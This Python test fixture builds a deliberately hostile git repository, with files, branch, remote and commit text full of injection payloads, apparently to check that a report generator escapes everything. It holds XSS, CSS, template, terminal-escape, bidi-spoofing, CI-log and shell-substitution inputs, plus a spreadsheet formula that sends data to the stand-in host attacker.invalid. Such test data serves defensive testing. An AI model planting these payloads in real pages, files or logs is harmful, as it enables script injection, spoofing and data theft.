"""A repository whose every word attacks the one who reads a report about it. Made for a test, in a folder of its own.

It is a real project with a workflow, a pipeline, tests, an image and a notebook, so that its names and commands reach
the reports as evidence, routes, near misses and blind spots. Each text carries attacks from ATTACKS. Nothing of it may
act: no dialog, no request, no element, no style, no escape sequence, no turned direction, no formula.
"""

from __future__ import annotations

import json
import subprocess
from typing import TYPE_CHECKING

from tests.conftest import commit_files, write_files

if TYPE_CHECKING:
    from pathlib import Path

HOST = "attacker.invalid"
"""Where the attacks try to load from; a report that asks for it is broken. The name is reserved (RFC 2606)."""
MARK = "gotcha"
"""What the attacks put on a page that they take over: ids, dialogs, titles."""

ATTACKS = {
    "image": f"<img src=//{HOST}/i.png onerror=alert('{MARK}')>",
    "script": f"</script><script>alert('{MARK}')</script>",
    "attribute": f"\"' onmouseover=alert('{MARK}') autofocus onfocus=alert('{MARK}') x=\"",
    "vector": f"<svg onload=alert('{MARK}')><a href='javascript:alert(1)'>{MARK}</a></svg>",
    "style": f"</style><style>*{{display:none!important}}@import url(//{HOST}/a.css);</style>",
    "inline": f"<p id={MARK} style='position:fixed;inset:0;background:url(//{HOST}/b.png)'>",
    "frame": f"<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><base href=//{HOST}/><meta http-equiv=refresh content=0>",
    "close": "--></title></textarea></noscript></template></details></main>]]>",
    "entity": "&lt;b id=gotcha&gt;&#60;b&#62;&colon;",
    "template": "{{ 7*7 }}{% raise %}{# #}${7*7}<%= 7*7 %>",
    "markdown": f"[{MARK}](javascript:alert(1)) ![x](http://{HOST}/c.png) | a | **b** @everyone #1 <!-- x",
    "fence": "```` ``` ~~~ ` $(id) \\",
    "terminal": "\x1b[2J\x1b]0;gotcha\x07\x1b]8;;http://attacker.invalid\x1b\\\x9b31m\x08\x7f\r\n",
    "direction": "\u202egpj.exe\u202c \u2066isolate\u2069 \u200f\u200b\ufeff\u00ad",
    "formula": f"=HYPERLINK(\"http://{HOST}/?\"&A1,\"{MARK}\")",
    "command": "::error file=a,line=1::gotcha%0A::set-output name=a::b ##vso[task.setvariable]x ##teamcity[x]",
    "stacked": "Z\u0351\u034b\u0310" * 12 + "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "long": "W" * 400,
}  # fmt: skip
"""Each by what it attacks: HTML, its attributes, scripts, styles, templates, Markdown, terminals, direction of writing,
spreadsheets, logs of CI systems, and the layout of a page."""

_PAGE = ("image", "script", "attribute", "vector", "style", "inline", "frame", "close", "entity", "template")
_TEXT = ("markdown", "fence", "terminal", "direction", "formula", "command", "stacked", "long")


def hostile(*kinds: str) -> str:
    """Several attacks in one text; all of them without `kinds`."""
    return " ".join(ATTACKS[kind] for kind in kinds or (*_PAGE, *_TEXT))


def as_name(text: str) -> str:
    """The text as a file's name: without what a path cannot hold, and not too long for a file system."""
    return text.replace("/", "\u2215").replace("\x00", "")[:180]


def quoted(text: str) -> str:
    """The text as a YAML scalar in double quotes."""
    safe = (sign if " " <= sign <= "~" and sign not in '"\\' else f"\\U{ord(sign):08x}" for sign in text)
    return f'"{"".join(safe)}"'


def write_hostile_repository(folder: Path) -> Path:
    """Write and commit the repository below `folder`, on a hostile branch and with a hostile remote; its root."""
    root = folder / as_name(f"<b id={MARK}>name'\"&")
    root.mkdir()
    write_files(root, _files())
    commit_files(
        root,
        {
            "commits": [
                {
                    "author": "Mallory '\"& <mallory@attacker.invalid>",
                    "date": "2024-01-02T03:04:05Z",
                    "message": hostile().replace("\x00", ""),
                    "files": "all",
                }
            ],
            "tags": [{"name": "v1.0.0", "commit": 1}],
        },
    )
    for arguments in (
        ("branch", "--move", "a'\"<b>&{{7+7}}"),
        ("config", "remote.origin.url", f'https://github.com/a/b"onclick=alert(1)><img src=//{HOST}>.git'),
    ):
        subprocess.run(["git", *arguments], cwd=root, check=True, capture_output=True)
    return root


def _files() -> dict[str, str]:
    named = {kind: as_name(ATTACKS[kind]) for kind in ATTACKS}
    return {
        "README.md": f"# {hostile()}\n\n## Install\n\n{hostile()}\n\n## Usage\n\n    make train\n",
        "LICENSE": f"MIT License\n\nCopyright {hostile()}\n",
        "MODEL_CARD.md": f"# Model card {hostile()}\n\n## Intended use\n\n{hostile()}\n\n## Limitations\n\n{hostile()}\n",
        "requirements.txt": "mlflow==2.9.2\nevidently==0.4.0\npandera==0.18.0\ndvc==3.0.0\n",
        "CODEOWNERS": f"* @{named['attribute']}\n",
        f".github/workflows/{named['image']}.yml": _workflow(),
        f".github/workflows/{named['close']}.yml": "on: [push\njobs: {" + hostile("image", "script") + "\n",
        "dvc.yaml": _pipeline(named),
        "dvc.lock": "schema: '2.0'\nstages: {}\n",
        f"src/{named['script']}.py": _training(),
        f"src/{named['attribute']}.py": "import evidently\n" + hostile("image") + "\n",
        f"src/{named['direction']}.py": "print 'python 2 " + MARK + "'\n",
        f"tests/test_{named['vector']}.py": _test(),
        f"tests/test_{named['style']}.py": _test(),
        f"notebooks/{named['markdown']}.ipynb": _notebook(),
        f"config/{named['formula']}.yaml": f"? {quoted(hostile('image', 'script'))}\n: {quoted(hostile())}\n",
        f"data/{named['terminal']}.csv.dvc": "outs:\n- md5: 0123456789abcdef0123456789abcdef\n  path: x.csv\n",
        f"docker/{named['inline']}/Dockerfile": "FROM python:3.11.4\nRUN echo " + hostile("image", "template") + "\n",
        f"k8s/{named['frame']}.yaml": _cron_job(),
    }  # fmt: skip


def hostile_config() -> str:
    """A configuration without a mistake whose every free text attacks. It is no file of the repository, which is rated
    without it."""
    said = {"rung": "used", "when": "2024-01-01", "expires": "2024-12-31"}
    page = {"practice": "data.validation", "statement": hostile(*_PAGE)[:2000], "who": ATTACKS["image"]}
    text = {"practice": "monitoring.drift", "statement": hostile(*_TEXT)[:2000], "who": ATTACKS["direction"]}
    page["link"] = f'https://{HOST}/"onmouseover=alert(1)//<img/src=x>'
    text["link"] = "https://example.com/[a](javascript:alert(1))"
    waived = {"practice": "data.lineage", "reason": hostile()[:2000], "owner": ATTACKS["vector"]}
    ended = waived | {"ticket": f"javascript:alert('{MARK}')", "expires": "2023-12-31"}
    unused = waived | {"path": ATTACKS["script"], "ticket": ATTACKS["attribute"], "expires": "2024-12-31"}
    return f"attestations: {_listed(page | said, text | said)}\nwaivers: {_listed(ended, unused)}\n"


def _listed(*entries: dict[str, str]) -> str:
    """The entries as a YAML list on one line."""
    maps = (", ".join(f"{key}: {quoted(value)}" for key, value in entry.items()) for entry in entries)
    return f"[{', '.join(f'{{{one}}}' for one in maps)}]"


def _workflow() -> str:
    run = quoted(f"pytest tests # {hostile()}")
    step = quoted(f"python 'src/{as_name(ATTACKS['script'])}.py' # {hostile('image', 'terminal', 'direction')}")
    name = quoted(hostile())
    return f"""name: {name}
on:
  push:
    branches: [{quoted(hostile("image", "attribute"))}, "**"]
  schedule:
    - cron: "0 3 * * *"
jobs:
  {quoted(ATTACKS["image"])}:
    name: {name}
    runs-on: ubuntu-latest
    environment: {quoted(ATTACKS["vector"])}
    steps:
      - name: {name}
        run: pip install -r requirements.txt
      - name: {quoted(ATTACKS["script"])}
        run: {run}
  {quoted(ATTACKS["style"])}:
    needs: {quoted(ATTACKS["image"])}
    runs-on: ubuntu-latest
    steps:
      - name: {name}
        run: {step}
      - run: dvc repro
"""


def _pipeline(named: dict[str, str]) -> str:
    script = quoted(f"python 'src/{named['script']}.py' {ATTACKS['fence']}")
    return f"""stages:
  {quoted(ATTACKS["template"])}:
    cmd: {script}
    deps: [{quoted(hostile("image"))}]
    outs: [{quoted(named["inline"])}]
  {quoted(ATTACKS["image"])}:
    cmd: {script}
"""


def _training() -> str:
    return f"""import mlflow
import pandera
from sklearn.linear_model import LogisticRegression

MESSAGE = {hostile()!r}


def train(data, target):
    model = LogisticRegression(random_state=7).fit(data, target)
    with mlflow.start_run(run_name=MESSAGE):
        mlflow.log_metric({ATTACKS["image"]!r}, 1.0)
        mlflow.log_param({ATTACKS["script"]!r}, 1)
        mlflow.sklearn.log_model(model, {ATTACKS["vector"]!r}, registered_model_name={ATTACKS["style"]!r})
    accuracy = model.score(data, target)
    if accuracy < 0.8:
        raise ValueError({hostile()!r})
    return model


if __name__ == "__main__":
    train([[0], [1]], [0, 1])
"""


def _test() -> str:
    return f"""from src import train


def test_{MARK}():
    assert train.train([[0], [1]], [0, 1]) is not None, {hostile()!r}
"""


def _notebook() -> str:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": [hostile()]},
        {
            "cell_type": "code",
            "execution_count": 2,
            "metadata": {},
            "outputs": [{"output_type": "error", "ename": hostile(), "evalue": hostile(), "traceback": [hostile()]}],
            "source": [
                "import mlflow\n",
                f"mlflow.set_experiment({ATTACKS['image']!r})  # {hostile('script', 'vector')}\n",
            ],
        },
        {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": [hostile()]},
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _cron_job() -> str:
    return f"""apiVersion: batch/v1
kind: CronJob
metadata:
  name: {quoted(ATTACKS["image"])}
spec:
  schedule: {quoted(hostile("script", "vector"))}
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: {quoted(ATTACKS["style"])}
              image: {quoted("x:" + ATTACKS["attribute"])}
              command: ["python", {quoted("src/" + as_name(ATTACKS["script"]) + ".py")}]
"""
